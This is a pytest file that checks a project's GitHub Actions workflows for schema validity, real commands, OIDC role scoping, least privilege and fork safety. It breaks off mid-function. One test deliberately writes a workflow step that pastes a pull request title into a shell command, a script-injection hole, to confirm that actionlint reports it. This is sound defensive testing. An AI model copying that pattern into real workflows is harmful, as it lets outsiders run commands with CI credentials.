"""The GitHub Actions workflows users run from CI (.github/workflows/).

They must be valid workflows (schema and actionlint, with shellcheck on every script), run only
commands that exist (modelctl sub-commands and arguments, Makefile targets, scripts), cover every
stack with its own policy config, keep credentials away from forks, hand every role only to jobs of
a GitHub environment or of `main` (never to any pull request), deploy prod only behind the protected
`production` environment, follow least privilege (actions pinned to commits, each job granted exactly
what its steps need, secrets passed by name, tokens that can push only in a main-only environment,
checkouts without credentials, no expression pasted into a script), and match what the README's
Operating it section tells users to set up.
"""

from __future__ import annotations

import argparse
import contextlib
import copy
import io
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator

import pytest
import yaml
from check_jsonschema import main as check_jsonschema
from click.testing import CliRunner

from modelctl.cli import build_parser

ROOT = Path(__file__).resolve().parent.parent
WORKFLOWS = ROOT / ".github" / "workflows"
README = ROOT / "README.md"


def operating_section() -> str:
    """The README's "## Operating it" section, up to the next second-level heading."""
    text = README.read_text()
    start = text.index("\n## Operating it\n") + 1
    end = text.find("\n## ", start + 1)
    return text[start:] if end < 0 else text[start : end + 1]

#: The reusable workflow that runs each Pulumi command on one stack. Two files, not one with a command
#: input: GitHub checks a called job's permissions against its caller's before the run starts, and only
#: the preview needs `pull-requests: write` (it comments on the pull request).
STACK_WORKFLOWS = {"preview": "./.github/workflows/pulumi-preview.yml", "up": "./.github/workflows/pulumi-up.yml"}
PROJECT = "model-platform"
INSTALL_TOOLS = ROOT / "scripts" / "install-tools.sh"

WORKFLOW_FILES = sorted(WORKFLOWS.glob("*.yml")) + sorted(WORKFLOWS.glob("*.yaml"))
STACKS = sorted(p.name[len("Pulumi."):-len(".yaml")] for p in (ROOT / "stacks").glob("Pulumi.*.yaml"))

# Inputs each action documents (its action.yml / README); a name outside these is a typo the
# workflow schema cannot catch, because it does not know the actions.
DOCUMENTED_INPUTS: dict[str, set[str]] = {
    "actions/checkout": {"repository", "ref", "token", "fetch-depth", "persist-credentials", "path", "clean", "sparse-checkout", "submodules", "lfs"},
    "actions/setup-python": {"python-version", "python-version-file", "cache", "cache-dependency-path", "architecture", "check-latest"},
    "actions/setup-go": {"go-version", "go-version-file", "check-latest", "token", "cache", "cache-dependency-path", "architecture"},
    "aws-actions/configure-aws-credentials": {
        "audience", "aws-region", "role-to-assume", "role-session-name", "role-duration-seconds",
        "role-external-id", "role-skip-session-tagging", "mask-aws-account-id", "web-identity-token-file", "http-proxy",
        "aws-access-key-id", "aws-secret-access-key", "aws-session-token",
    },
    "pulumi/actions": {
        "command", "stack-name", "work-dir", "cloud-url", "comment-on-pr", "comment-on-summary", "github-token",
        "refresh", "secrets-provider", "color", "log-verbosity", "log-flow", "debug", "config-map", "diff",
        "comment-on-pr-number", "edit-pr-comment", "expect-no-changes", "message", "parallel", "policyPacks",
        "policyPackConfigs", "pulumi-version", "pulumi-version-file", "remove", "replace", "target",
        "target-dependents", "upsert", "exclude-protected", "suppress-outputs", "suppress-progress",
        "omit-stdout", "plan", "always-include-summary", "continue-on-error",
    },
    "peter-evans/create-pull-request": {
        "token", "path", "add-paths", "commit-message", "committer", "author", "signoff", "branch",
        "delete-branch", "branch-suffix", "base", "push-to-fork", "title", "body", "body-path", "labels",
        "assignees", "reviewers", "team-reviewers", "milestone", "draft",
    },
}


# --- reading workflows -------------------------------------------------------------------


def load(path: Path) -> dict[str, Any]:
    return yaml.safe_load(path.read_text())


def workflow(name: str) -> dict[str, Any]:
    return load(WORKFLOWS / name)


def triggers(doc: dict[str, Any]) -> dict[str, Any]:
    """The `on:` block (YAML 1.1 reads the bare key `on` as True)."""
    on = doc.get("on", doc.get(True))
    return on if isinstance(on, dict) else {name: {} for name in ([on] if isinstance(on, str) else on)}


def steps(doc: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    for job_id, job in doc["jobs"].items():
        for step in job.get("steps", []):
            yield job_id, step


def action_name(uses: str) -> str:
    """`pulumi/actions@v7` -> `pulumi/actions`."""
    return uses.split("@", 1)[0]


def called_workflow(uses: str) -> dict[str, Any]:
    """The workflow a job calls with `uses: ./.github/workflows/NAME.yml`."""
    return load(ROOT / uses)


def local_calls() -> list[tuple[str, str, dict[str, Any]]]:
    """(workflow file, job id, job) of every job that calls a reusable workflow of this repository."""
    return [(path.name, job_id, job) for path in WORKFLOW_FILES for job_id, job in load(path)["jobs"].items()
            if str(job.get("uses", "")).startswith("./")]


def stack_jobs(doc: dict[str, Any], command: str) -> dict[str, dict[str, Any]]:
    """Jobs running the Pulumi `command` through its reusable workflow, by stack (matrix entries expanded)."""
    found: dict[str, dict[str, Any]] = {}
    for job in doc["jobs"].values():
        if job.get("uses") != STACK_WORKFLOWS[command]:
            continue
        entries = job.get("strategy", {}).get("matrix", {}).get("include") or [{}]
        for entry in entries:
            args = {k: _matrix_value(v, entry) for k, v in job["with"].items()}
            found[args["stack"]] = {"job": job, "with": args}
    return found


def _matrix_value(value: Any, entry: dict[str, Any]) -> Any:
    m = re.fullmatch(r"\$\{\{\s*matrix\.([\w-]+)\s*\}\}", str(value))
    return entry[m.group(1)] if m else value


def stack_environment(stack: str) -> str:
    doc = yaml.safe_load((ROOT / "stacks" / f"Pulumi.{stack}.yaml").read_text())
    return doc["config"][f"{PROJECT}:environment"]


# --- reading shell scripts ---------------------------------------------------------------

_OPERATORS = {"|", "||", "&&", ";", "&", "(", ")", ";;"}
_KEYWORDS = {"if", "then", "elif", "else", "fi", "do", "done", "while", "until", "!", "{", "}", "time"}


def shell_commands(script: str) -> list[list[str]]:
    """Each simple command of a shell script as argv, shell variables replaced by `x`.

    Heredoc bodies are skipped; commands are split at ;, |, &&, || and keywords such as `then`.
    """
    lines: list[str] = []
    heredoc_end: str | None = None
    pending = ""
    for raw in script.splitlines():
        if heredoc_end is not None:
            if raw.strip() == heredoc_end:
                heredoc_end = None
            continue
        m = re.search(r"(?<!<)<<-?(?!<)\s*['\"]?(\w+)['\"]?", raw)  # a heredoc, not a <<< here-string
        if m:
            heredoc_end = m.group(1)
        line = pending + raw
        if line.rstrip().endswith("\\"):
            pending = line.rstrip()[:-1] + " "
            continue
        pending = ""
        lines.append(line)
    commands: list[list[str]] = []
    for line in lines:
        lexer = shlex.shlex(_drop_redirections(_substitute_variables(line)), posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        lexer.commenters = "#"
        current: list[str] = []
        for token in lexer:
            if token in _OPERATORS or (not current and token in _KEYWORDS):
                if current:
                    commands.append(current)
                current = []
            else:
                current.append(token)
        if current:
            commands.append(current)
    return commands


def _substitute_variables(line: str) -> str:
    return re.sub(r"\$\{?[A-Za-z_][A-Za-z0-9_]*\}?", "x", line)


def _drop_redirections(line: str) -> str:
    """`cmd > "file" 2>&1` -> `cmd`: a redirection and its target are no arguments (heredocs are left alone)."""
    return re.sub(r"""(?:(?<=\s)|^)\d*(?:>>|>&|&>|>|<(?![<(]))\s*(?:"[^"]*"|'[^']*'|[^\s;|&)]+)""", " ", line)


def run_scripts(path: Path) -> list[tuple[str, str]]:
    """(where, script) of every `run:` step of a workflow."""
    return [(f"{path.name}:{job_id}:{step.get('name', step['run'][:40])}", step["run"])
            for job_id, step in steps(load(path)) if "run" in step]


def invocations(tool: str) -> list[tuple[str, list[str]]]:
    """Every `modelctl ...` / `make ...` command the workflows run, with where it runs."""
    found = []
    for path in WORKFLOW_FILES:
        for where, script in run_scripts(path):
            for argv in shell_commands(script):
                if Path(argv[0]).name == tool:
                    found.append((where, argv))
    return found


def doc_invocations(tool: str) -> list[list[str]]:
    """Every `modelctl ...` command in the shell code blocks of the README's Operating it section."""
    blocks = re.findall(r"```(?:sh|bash|shell)\n(.*?)```", operating_section(), re.S)
    return [argv for block in blocks for argv in shell_commands(block) if Path(argv[0]).name == tool]


def modelctl_subcommands() -> set[str]:
    parser = build_parser()
    sub = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction))
    return set(sub.choices)


def parse_modelctl(argv: list[str]) -> None:
    """Parse a modelctl command line as `modelctl` would; fail the test with argparse's message."""
    stderr = io.StringIO()
    try:
        with contextlib.redirect_stderr(stderr):
            build_parser().parse_args(argv[1:])
    except SystemExit:
        pytest.fail(f"`{shlex.join(argv)}` is not a valid modelctl command line: {stderr.getvalue().strip()}")


def makefile_targets() -> set[str]:
    text = (ROOT / "Makefile").read_text()
    return {m.group(1) for m in re.finditer(r"^([A-Za-z0-9][\w.-]*)\s*:(?!=)", text, re.M)}


# --- the workflows are valid -------------------------------------------------------------


def test_there_are_workflows_for_pull_requests_deploys_and_promotion():
    names = {p.name for p in WORKFLOW_FILES}
    assert {"pull-request.yml", "deploy.yml", "promote.yml", "pulumi-preview.yml", "pulumi-up.yml"} <= names


def validate_workflow(path: Path) -> tuple[int, str]:
    result = CliRunner().invoke(check_jsonschema, ["--builtin-schema", "vendor.github-workflows", str(path)])
    return result.exit_code, result.output


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_workflow_validates_against_the_github_workflow_schema(path):
    code, output = validate_workflow(path)
    assert code == 0, output


def test_the_schema_check_rejects_a_broken_workflow(tmp_path):
    broken = tmp_path / "broken.yml"
    broken.write_text("on: push\njobs:\n  test:\n    runs_on: ubuntu-latest\n    steps: [{run: make test}]\n")
    code, output = validate_workflow(broken)
    assert code == 1, output


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_actions_get_only_inputs_they_document(path):
    for job_id, step in steps(load(path)):
        if "uses" not in step or step["uses"].startswith("./"):
            continue
        name = action_name(step["uses"])
        assert name in DOCUMENTED_INPUTS, f"{path.name}:{job_id}: {name}: add its documented inputs to this test"
        unknown = set(step.get("with", {})) - DOCUMENTED_INPUTS[name]
        assert not unknown, f"{path.name}:{job_id}: {name} has no input(s) {sorted(unknown)}"


def test_calls_of_reusable_workflows_match_their_inputs_and_secrets():
    """Every secret a called workflow declares is passed by name: one not passed is silently empty."""
    calls = local_calls()
    assert {job["uses"] for _, _, job in calls} == set(STACK_WORKFLOWS.values())
    for name, job_id, job in calls:
        call = triggers(called_workflow(job["uses"]))["workflow_call"]
        inputs = call.get("inputs", {})
        required = {key for key, spec in inputs.items() if spec.get("required")}
        given = set(job.get("with", {}))
        assert given <= set(inputs), f"{name}:{job_id}: unknown input(s) {sorted(given - set(inputs))}"
        assert required <= given, f"{name}:{job_id}: missing input(s) {sorted(required - given)}"
        passed = job.get("secrets", {})
        assert isinstance(passed, dict), f"{name}:{job_id}: pass secrets by name, not `secrets: {passed}`"
        assert set(passed) == set(call.get("secrets", {})), f"{name}:{job_id}: passes {sorted(passed)}, declared {sorted(call.get('secrets', {}))}"


# --- actionlint (with shellcheck on every script) lints every workflow ---------------------


def pinned_actionlint_version() -> str:
    """The actionlint version scripts/install-tools.sh installs (`ACTIONLINT_VERSION=vX.Y.Z`)."""
    m = re.search(r"^ACTIONLINT_VERSION=(v\d+\.\d+\.\d+)$", INSTALL_TOOLS.read_text(), re.M)
    assert m, f"{INSTALL_TOOLS.relative_to(ROOT)} pins no ACTIONLINT_VERSION=vX.Y.Z"
    return m.group(1)


def actionlint_command() -> list[str]:
    """actionlint at the pinned version, running shellcheck on `run:` scripts; fails the test when missing."""
    exe = ROOT / ".tools" / "bin" / "actionlint"
    if not os.access(exe, os.X_OK):
        pytest.fail(f"{exe.relative_to(ROOT)} is missing: run scripts/install-tools.sh")
    version = subprocess.run([str(exe), "-version"], capture_output=True, text=True, check=False).stdout.partition("\n")[0]
    if version != pinned_actionlint_version():
        pytest.fail(f"{exe.relative_to(ROOT)} is {version or 'unusable'}, not {pinned_actionlint_version()}: run scripts/install-tools.sh")
    shellcheck = shutil.which("shellcheck")
    if not shellcheck:
        pytest.fail("shellcheck is missing (actionlint runs it on every `run:` script): run scripts/install-tools.sh")
    return [str(exe), "-shellcheck", shellcheck, "-pyflakes", "", "-no-color"]


def actionlint(*paths: Path, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run([*actionlint_command(), *map(str, paths)], cwd=cwd, capture_output=True, text=True, check=False)


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_actionlint_finds_nothing_in_the_workflow(path):
    """Expressions, contexts, reusable workflow calls, runner labels and, through shellcheck, every script."""
    result = actionlint(path)
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_reports_script_injection_and_shellcheck_findings(tmp_path):
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "bad.yml").write_text(
        "on: pull_request\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    permissions: {}\n    steps:\n"
        '      - run: echo "${{ github.event.pull_request.title }}"\n'
        "      - run: echo $UNQUOTED\n"
    )
    result = actionlint(workflows / "bad.yml", cwd=tmp_path)
    assert result.returncode == 1, result.stdout + result.stderr
    assert '"github.event.pull_request.title" is potentially untrusted' in result.stdout
    assert "SC2086" in result.stdout  # shellcheck ran on the script


#: `go` as the install script calls it (`go install PACKAGE@VERSION` into $GOBIN): records the call and
#: writes an actionlint that reports VERSION, so the script's logic is tested without a network.
FAKE_GO = """#!/usr/bin/env bash
echo "GOBIN=$GOBIN $*" >> "$FAKE_GO_LOG"
[ "$1" = install ] || exit 2
printf '#!/usr/bin/env bash\\necho %s\\necho built by the fake go\\n' "${2##*@}" > "$GOBIN/actionlint"
chmod +x "$GOBIN/actionlint"
"""


@dataclass(frozen=True)
class ToolsSandbox:
    """scripts/install-tools.sh with only the programs it may use on PATH and a fake `go`."""

    env: dict[str, str]
    tools: Path
    go_log: Path

    def run(self) -> subprocess.CompletedProcess:
        return subprocess.run([str(INSTALL_TOOLS)], env=self.env, capture_output=True, text=True, check=False)

    def go_calls(self) -> list[str]:
        return self.go_log.read_text().splitlines() if self.go_log.exists() else []

    def install_actionlint(self, version: str) -> None:
        (self.tools / "actionlint").write_text(f"#!/usr/bin/env bash\necho {version}\n")
        (self.tools / "actionlint").chmod(0o755)


def tools_sandbox(tmp_path: Path, *, go: bool = True, shellcheck: bool = True) -> ToolsSandbox:
    system, fake, tools = tmp_path / "system", tmp_path / "fake", tmp_path / "tools"
    for directory in (system, fake, tools):
        directory.mkdir()
    for program in ("bash", "sed", "mkdir", "dirname", "id", "chmod"):
        (system / program).symlink_to(shutil.which(program))
    fakes = {"go": FAKE_GO if go else "", "shellcheck": "#!/usr/bin/env bash\necho 'version: 0.9.0'\n" if shellcheck else ""}
    for name, text in fakes.items():
        if text:
            (fake / name).write_text(text)
            (fake / name).chmod(0o755)
    go_log = tmp_path / "go.log"
    env = {"PATH": f"{fake}{os.pathsep}{system}", "HOME": str(tmp_path), "TOOLS_BIN": str(tools), "FAKE_GO_LOG": str(go_log)}
    return ToolsSandbox(env, tools, go_log)


def test_install_tools_leaves_the_pinned_actionlint_alone(tmp_path):
    sandbox = tools_sandbox(tmp_path, go=False)
    sandbox.install_actionlint(pinned_actionlint_version())
    run = sandbox.run()
    assert run.returncode == 0, run.stderr
    assert sandbox.go_calls() == [] and f"actionlint {pinned_actionlint_version()}: already in" in run.stdout


@pytest.mark.parametrize("installed", [None, "v1.6.0"], ids=["missing", "another-version"])
def test_install_tools_builds_the_pinned_actionlint_once(tmp_path, installed):
    sandbox = tools_sandbox(tmp_path)
    if installed:
        sandbox.install_actionlint(installed)
    for _ in range(2):
        run = sandbox.run()
        assert run.returncode == 0, run.stderr
    package = f"github.com/rhysd/actionlint/cmd/actionlint@{pinned_actionlint_version()}"
    assert sandbox.go_calls() == [f"GOBIN={sandbox.tools} install {package}"]


@pytest.mark.parametrize("go, shellcheck, says", [
    (False, True, "install Go 1.25 or newer"),
    (True, False, "shellcheck is missing"),
], ids=["no-go", "no-shellcheck"])
def test_install_tools_says_what_to_install_when_it_cannot(tmp_path, go, shellcheck, says):
    run = tools_sandbox(tmp_path, go=go, shellcheck=shellcheck).run()
    assert run.returncode == 1
    assert says in run.stderr and "run scripts/install-tools.sh again" in run.stderr


def test_ci_installs_the_linters_before_make_test():
    job = workflow("pull-request.yml")["jobs"]["test"]
    order = [s.get("run") or action_name(s.get("uses", "")) for s in job["steps"]]
    assert order.index("actions/setup-go") < order.index("scripts/install-tools.sh") < order.index("make test"), order


def test_scripts_the_workflows_run_exist():
    for path in WORKFLOW_FILES:
        for where, script in run_scripts(path):
            for argv in shell_commands(script):
                if argv[0].startswith(("scripts/", "./scripts/")):
                    assert os.access(ROOT / argv[0], os.X_OK), f"{where}: {argv[0]} is not an executable file"


# --- every command they run exists -------------------------------------------------------


def test_workflows_run_modelctl_and_make():
    assert invocations("modelctl") and invocations("make")


def test_every_modelctl_subcommand_the_workflows_run_exists():
    known = modelctl_subcommands()
    for where, argv in invocations("modelctl"):
        assert len(argv) > 1 and argv[1] in known, f"{where}: `{shlex.join(argv)}`: modelctl has {sorted(known)}"


def test_every_modelctl_command_line_the_workflows_run_parses():
    for _, argv in invocations("modelctl"):
        parse_modelctl(argv)


def test_every_make_target_the_workflows_run_exists():
    targets = makefile_targets()
    for where, argv in invocations("make"):
        wanted = [a for a in argv[1:] if not a.startswith("-") and "=" not in a]
        assert wanted, f"{where}: `{shlex.join(argv)}` names no target"
        missing = set(wanted) - targets
        assert not missing, f"{where}: Makefile has no target {sorted(missing)} (targets: {sorted(targets)})"


def test_the_command_checker_sees_commands_in_every_shell_form():
    script = (
        'set -e\nif a; then\n  .venv/bin/modelctl diff "$STACK" \\\n  --base "origin/${BASE_REF}" | tee x\nfi\n'
        "read -r a b <<< word\npython - <<'EOF'\nmodelctl plan in a heredoc\nEOF\nx && modelctl check prod\n"
        'elif modelctl diff "$STACK" --base x > "$RUNNER_TEMP/d.txt" 2>&1; then\n  modelctl plan prod 2>/dev/null >>out\n'
    )
    assert [c for c in shell_commands(script) if c[0].endswith("modelctl")] == [
        [".venv/bin/modelctl", "diff", "x", "--base", "origin/x"],
        ["modelctl", "check", "prod"],
        ["modelctl", "diff", "x", "--base", "x"],
        ["modelctl", "plan", "prod"],
    ]


def test_the_promotion_runs_modelctl_promote_with_verification():
    lines = [argv for where, argv in invocations("modelctl") if where.startswith("promote.yml") and argv[1] == "promote"]
    assert len(lines) == 1
    argv = lines[0]
    assert argv[argv.index("--from") + 1] == "staging" and argv[argv.index("--to") + 1] == "prod"
    assert "--verify" in argv and "--dry-run" not in argv


# --- every stack is checked, previewed and deployed with its own policy config ------------


def test_every_stack_is_policy_checked_and_diffed_on_pull_requests():
    check = workflow("pull-request.yml")["jobs"]["check"]
    assert sorted(check["strategy"]["matrix"]["stack"]) == STACKS
    commands = [argv for step in check["steps"] if "run" in step for argv in shell_commands(step["run"])]
    subcommands = {argv[1] for argv in commands if Path(argv[0]).name == "modelctl"}
    assert {"check", "diff"} <= subcommands


def diff_step() -> dict[str, Any]:
    check = workflow("pull-request.yml")["jobs"]["check"]
    return next(s for s in check["steps"] if "modelctl diff" in s.get("run", ""))


def test_the_stack_diff_is_information_and_never_fails_the_required_check():
    check = workflow("pull-request.yml")["jobs"]["check"]
    step = diff_step()
    assert step.get("continue-on-error") is True
    gating = [s for s in check["steps"] if "run" in s and any(
        Path(argv[0]).name == "modelctl" and argv[1:2] == ["check"] for argv in shell_commands(s["run"]))]
    assert len(gating) == 1 and "continue-on-error" not in gating[0], "modelctl check gates the pull request"
    assert check["steps"].index(gating[0]) < check["steps"].index(step)


def run_diff_step(tmp_path: Path, modelctl_exit: int, base_has_stack: bool = True) -> tuple[subprocess.CompletedProcess, str]:
    """Run the summary step as GitHub does (bash -eo pipefail) in a clone whose branch edits the prod stack file."""
    repo, bin_dir = tmp_path / "repo", tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "modelctl"
    fake.write_text(f'#!/usr/bin/env bash\necho "modelctl $*: out"\necho "modelctl: an error" >&2\nexit {modelctl_exit}\n')
    fake.chmod(0o755)
    env = git_env(tmp_path)
    env["PATH"] = f"{bin_dir}{os.pathsep}{env['PATH']}"
    stack_file = repo / "stacks" / "Pulumi.prod.yaml"
    stack_file.parent.mkdir(parents=True)
    (repo / "README.md").write_text("base\n")
    if base_has_stack:
        stack_file.write_text("config:\n  model-platform:environment: prod\n")
    git = git_runner(repo, env, init=True)
    git("add", "-A")
    git("commit", "-q", "-m", "base")
    git("update-ref", "refs/remotes/origin/main", "HEAD")
    stack_file.write_text("config:\n  model-platform:environment: prod\n  model-platform:newKey: 1\n")
    summary = tmp_path / "summary"
    env.update({k: str(v) for k, v in diff_step()["env"].items() if "${{" not in str(v)})
    env.update({"STACK": "prod", "BASE_REF": "main", "RUNNER_TEMP": str(tmp_path), "GITHUB_STEP_SUMMARY": str(summary)})
    run = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", diff_step()["run"]],
                         cwd=repo, env=env, capture_output=True, text=True, check=False)
    return run, summary.read_text() if summary.exists() else ""


def test_the_stack_diff_goes_into_the_summary(tmp_path):
    run, summary = run_diff_step(tmp_path, modelctl_exit=0)
    assert run.returncode == 0, run.stderr
    assert "modelctl diff prod --base origin/main: out" in summary
    assert "Note" not in summary


def test_a_base_the_branch_cannot_read_gets_a_note_and_the_file_diff_not_a_failure(tmp_path):
    run, summary = run_diff_step(tmp_path, modelctl_exit=2)
    assert run.returncode == 0, run.stderr
    assert "could not compare with `main` (exit 2)" in summary
    assert "modelctl: an error" in summary
    assert "+  model-platform:newKey: 1" in summary  # git diff origin/main -- stacks/Pulumi.prod.yaml
    assert "`modelctl check prod` decides" in summary


def test_a_new_stack_is_named_as_such(tmp_path):
    run, summary = run_diff_step(tmp_path, modelctl_exit=0, base_has_stack=False)
    assert run.returncode == 0, run.stderr
    assert "New stack: `stacks/Pulumi.prod.yaml` does not exist on `main`." in summary


def test_workflows_read_stacks_through_modelctl_stack_info():
    """Typed, validated values (config errors exit 2 naming file and key), not hand-parsed YAML."""
    from infra.stack_source import StackFile
    from modelctl.commands.stack_info import stack_facts

    keys = set(stack_facts(StackFile.load(ROOT / "stacks" / "Pulumi.prod.yaml").stack_config()))
    readers = 0
    for path in WORKFLOW_FILES:
        text = path.read_text()
        assert "safe_load" not in text and "import yaml" not in text, f"{path.name} parses YAML by hand"
        for job_id, job in load(path)["jobs"].items():
            ids = {s["id"] for s in job.get("steps", []) if "id" in s and "modelctl stack-info" in s.get("run", "")}
            readers += len(ids)
            used = re.findall(r"steps\.([\w-]+)\.outputs\.([\w-]+)", yaml.safe_dump(job))
            unknown = {f"{sid}.{key}" for sid, key in used if sid in ids and key not in keys}
            assert not unknown, f"{path.name}:{job_id}: stack-info prints no {sorted(unknown)} (it prints {sorted(keys)})"
    assert readers == len(STACK_WORKFLOWS) + 1, "the stack workflows and promote.yml read the stack with modelctl stack-info"


def test_files_the_workflows_point_to_exist():
    for path in WORKFLOW_FILES:
        for name in re.findall(r"(?<![\w/.${}-])((?:[\w-]+/)*[\w.-]+\.md)\b", path.read_text()):
            assert (ROOT / name).is_file(), f"{path.name} refers to {name}, which does not exist"


@pytest.mark.parametrize("workflow_name, command", [("pull-request.yml", "preview"), ("deploy.yml", "up")])
def test_every_stack_runs_with_its_environments_policy_config(workflow_name, command):
    jobs = stack_jobs(workflow(workflow_name), command)
    assert sorted(jobs) == STACKS
    for stack, job in jobs.items():
        config = job["with"]["policy-config"]
        assert config == f"policies/{stack_environment(stack)}.json", f"{stack}: {config}"
        assert (ROOT / config).is_file(), f"{stack}: {config} does not exist"


def pulumi_step(uses: str) -> dict[str, Any]:
    """The one pulumi/actions step of a reusable stack workflow."""
    found = [s for _, s in steps(called_workflow(uses)) if action_name(s.get("uses", "")) == "pulumi/actions"]
    assert len(found) == 1, uses
    return found[0]


@pytest.mark.parametrize("command", sorted(STACK_WORKFLOWS))
def test_every_pulumi_run_uses_the_policy_pack_and_the_given_config(command):
    args = pulumi_step(STACK_WORKFLOWS[command])["with"]
    assert args["command"] == command
    assert args["comment-on-pr"] is (command == "preview"), "previews (only) are commented on the pull request"
    assert args["policyPacks"] == "policies"
    assert args["policyPackConfigs"] == "${{ inputs.policy-config }}"
    assert args["stack-name"] == "${{ inputs.stack }}"
    assert args["cloud-url"] == "${{ vars.PULUMI_BACKEND_URL }}"
    # Each stack file records its own secrets provider (a KMS key per stack); one repository-wide
    # provider would force one key, readable by every stack's roles.
    assert "secrets-provider" not in args


def test_previews_and_deploys_run_the_same_steps():
    """Two files only because a called job's permissions are checked against its caller's: no other drift."""
    def common_part(uses: str) -> dict[str, Any]:
        doc = copy.deepcopy(called_workflow(uses))
        del doc["name"], doc["jobs"]["pulumi"]["name"]
        doc["jobs"]["pulumi"]["permissions"].pop("pull-requests", None)
        pulumi = next(s for _, s in steps(doc) if action_name(s.get("uses", "")) == "pulumi/actions")
        del pulumi["with"]["command"], pulumi["with"]["comment-on-pr"]
        return doc

    assert common_part(STACK_WORKFLOWS["preview"]) == common_part(STACK_WORKFLOWS["up"])


def test_stacks_on_the_passphrase_provider_get_their_passphrase():
    """A called workflow sees a secret only when its caller passes it, by name or with `inherit`.

    Passed by name, the environment's own secret of that name (prod's passphrase, an environment secret
    of `production` and `production-preview`) wins over the repository's in the job of that environment.
    """
    for uses in STACK_WORKFLOWS.values():
        assert pulumi_step(uses)["env"]["PULUMI_CONFIG_PASSPHRASE"] == "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}", uses
    calls = [(f"{name}:{job_id}", job.get("secrets")) for name, job_id, job in local_calls()]
    assert calls and all(passed == {"PULUMI_CONFIG_PASSPHRASE": "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}"} for _, passed in calls), calls


def test_previews_read_and_deploys_write_with_different_roles():
    preview = stack_jobs(workflow("pull-request.yml"), "preview")
    deploy = stack_jobs(workflow("deploy.yml"), "up")
    roles = [jobs[s]["with"]["aws-role-arn"] for jobs in (preview, deploy) for s in STACKS]
    roles.append(promotion_step()["with"]["role-to-assume"])
    assert len(set(roles)) == len(roles), roles


def promotion_step() -> dict[str, Any]:
    job = workflow("promote.yml")["jobs"]["promote"]
    return next(s for s in job["steps"] if action_name(s.get("uses", "")) == "aws-actions/configure-aws-credentials")


def test_every_job_that_assumes_a_role_is_gated_by_an_environment_or_main():
    """The subject in a job's OIDC token is what a role's trust policy can require.

    `pull_request` is the subject of every pull request from any branch of the repository, whatever
    its workflow files say: a role trusting it can be used by anyone who can push a branch.
    """
    for role, subjects in role_subjects().items():
        for subject in subjects:
            assert subject.startswith("environment:") or subject == "ref:refs/heads/main", f"{role}: {subject}"


def test_each_stack_is_previewed_in_its_own_environment_and_prods_is_not_a_deploy_environment():
    preview = stack_jobs(workflow("pull-request.yml"), "preview")
    deploy = stack_jobs(workflow("deploy.yml"), "up")
    assert preview["prod"]["with"]["environment"] == "production-preview"
    environments = [jobs[s]["with"]["environment"] for jobs in (preview, deploy) for s in STACKS]
    assert len(set(environments)) == len(environments), environments
    for stack in STACKS:
        assert preview[stack]["with"]["environment"] == f"{deploy[stack]['with']['environment']}-preview"


def test_the_readme_trusts_each_role_for_exactly_the_subjects_its_jobs_present():
    documented = documented_trust()
    assert documented == role_subjects()


def role_subjects() -> dict[str, set[str]]:
    """Repository variable of each assumed role -> the OIDC `sub` suffixes of the jobs that assume it."""
    found: dict[str, set[str]] = {}
    for path in WORKFLOW_FILES:
        doc = load(path)
        if "workflow_call" in triggers(doc):
            continue  # assumes the role its caller names: counted at the call
        for job_id, job in doc["jobs"].items():
            for role, environment in _assumed_roles(job):
                name = re.fullmatch(r"\$\{\{\s*vars\.(\w+)\s*\}\}", role)
                assert name, f"{path.name}:{job_id}: role {role!r} is not a repository variable"
                found.setdefault(name.group(1), set()).add(_subject(doc, job, environment, f"{path.name}:{job_id}"))
    return found


def _assumed_roles(job: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """(role expression, GitHub environment) of each role a job assumes, matrix entries expanded."""
    if job.get("uses") in STACK_WORKFLOWS.values():
        for entry in job.get("strategy", {}).get("matrix", {}).get("include") or [{}]:
            args = {k: _matrix_value(v, entry) for k, v in job["with"].items()}
            yield args["aws-role-arn"], args.get("environment", "")
    for step in job.get("steps", []):
        if action_name(step.get("uses", "")) == "aws-actions/configure-aws-credentials":
            yield step["with"]["role-to-assume"], job.get("environment", "")


def _subject(doc: dict[str, Any], job: dict[str, Any], environment: str, where: str) -> str:
    """The `sub` claim after `repo:OWNER/REPO:` (GitHub's default subject format)."""
    if environment:
        return f"environment:{environment}"
    if "github.ref == 'refs/heads/main'" in str(job.get("if", "")):
        return "ref:refs/heads/main"
    if "pull_request" in triggers(doc):
        return "pull_request"
    pytest.fail(f"{where}: cannot tell the OIDC subject of this job")


def documented_trust() -> dict[str, set[str]]:
    """The README's role table: variable -> trusted subjects (`repo:OWNER/REPO:` stripped)."""
    found: dict[str, set[str]] = {}
    for line in operating_section().splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        m = re.fullmatch(r"`(AWS_ROLE_ARN_\w+)`", cells[0]) if len(cells) >= 4 else None
        if m and "repo:" in cells[2]:
            found[m.group(1)] = set(re.findall(r"`repo:[\w.-]+/[\w.-]+:([^`]+)`", cells[2]))
    return found


# --- credentials: OIDC only, never for forks ---------------------------------------------


def test_no_long_lived_cloud_keys():
    for path in WORKFLOW_FILES:
        text = path.read_text()
        assert "aws-access-key-id" not in text and "AWS_SECRET_ACCESS_KEY" not in text, path.name
        for job_id, step in steps(load(path)):
            if action_name(step.get("uses", "")) == "aws-actions/configure-aws-credentials":
                assert "role-to-assume" in step["with"], f"{path.name}:{job_id}"


def test_pull_request_checks_that_run_for_forks_need_no_credentials():
    pr = workflow("pull-request.yml")
    assert list(triggers(pr)) == ["pull_request"], "pull_request_target would hand fork code the repository's secrets"
    for job_id, job in pr["jobs"].items():
